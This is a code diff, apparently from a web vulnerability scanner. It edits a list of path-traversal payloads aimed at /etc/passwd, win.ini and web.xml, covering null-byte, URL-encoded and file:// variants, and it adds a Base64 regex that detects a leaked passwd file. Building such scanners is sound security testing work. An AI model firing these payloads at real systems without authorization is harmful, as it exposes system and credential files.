@@ -105,14 +105,14 @@ function thorough(usual: string, url: string): string[] {
     `${up}etc/passwd`,
     '/etc/passwd',
     ...(folder === '' ? [] : [`${folder}${up}etc/passwd`]),
-    `${up}etc/passwd\0${ending}`,
+    `${folder}${up}etc/passwd\0${ending}`,
     ...(ending === '' ? [] : [`/etc/passwd\0${ending}`]),
     ...[...new Set(['', '/', folder])].map(
       (start) => `${start}${upOnceFiltered.repeat(10)}etc/passwd`,
     ),
     'file:///etc/passwd',
     `${up.replaceAll('/', '%2f')}etc%2fpasswd`,
-    `${'..%2f'.repeat(10)}etc%2fpasswd`.replaceAll('%', '%25'),
+    `${'%2e%2e%2f'.repeat(10)}etc%2fpasswd`,
     `${up}windows/win.ini`,
     `${'..\\'.repeat(10)}windows\\win.ini`,
     'c:\\windows\\win.ini',
@@ -127,6 +127,8 @@ function thorough(usual: string, url: string): string[] {
 const proofs: readonly (readonly [string, RegExp])[] = [
   // passwd(5): root's entry has user and group number 0.
   ['/etc/passwd', /root:[^:\n<]{0,100}:0:0:[^:\n]{0,100}:[^:\n]{0,100}:/],
+  // Its beginning in Base64, as pictures and documents stand in pages.
+  ['/etc/passwd', /cm9vdDp4OjA6MDpyb290/],
   ['win.ini', /; for 16-bit app support\s+\[fonts\]/i],
   [
     'WEB-INF/web.xml',
